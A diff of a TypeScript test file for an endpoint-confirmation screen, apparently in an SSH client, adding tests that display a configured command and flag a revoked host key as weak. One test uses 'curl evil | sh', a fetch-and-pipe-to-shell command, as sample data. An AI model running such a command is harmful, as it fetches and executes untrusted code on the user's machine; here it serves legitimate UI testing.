@@ -1,4 +1,10 @@
-import { type ChangedEntry, isConfirmable, needsPassword, weakOptionsOf } from './changed-entry';
+import {
+  type ChangedEntry,
+  isConfirmable,
+  needsPassword,
+  terminalOptionsOf,
+  weakOptionsOf,
+} from './changed-entry';
 import type { EndpointEntry } from './endpoint-client';
 
 const endpoint = (rest: Partial<ChangedEntry> = {}): ChangedEntry => ({
@@ -35,8 +41,20 @@ describe('a confirmation', () => {
     expect(needsPassword(endpoint({ unreadable: ['password'] }))).toBe(true);
   });
 
+  it('shows what will run, and how', () => {
+    expect(terminalOptionsOf(endpoint())).toEqual([]);
+    expect(terminalOptionsOf(endpoint({ command: 'curl evil | sh', localEcho: true }))).toEqual([
+      { label: 'Command', value: 'curl evil | sh' },
+      { label: 'Local echo', value: '✓' },
+    ]);
+  });
+
   it('names what protects the endpoint less', () => {
     expect(weakOptionsOf(endpoint())).toEqual([]);
+    const revoked = { ...endpoint().credentials, hostKey: '@revoked ssh-ed25519 AAAA' };
+    expect(weakOptionsOf(endpoint({ credentials: revoked }))).toEqual([
+      'No host key: any server is accepted',
+    ]);
     const credentials = { ...endpoint().credentials, hostKey: null };
     expect(weakOptionsOf(endpoint({ credentials, legacyAlgorithms: true }))).toEqual([
       'No host key: any server is accepted',
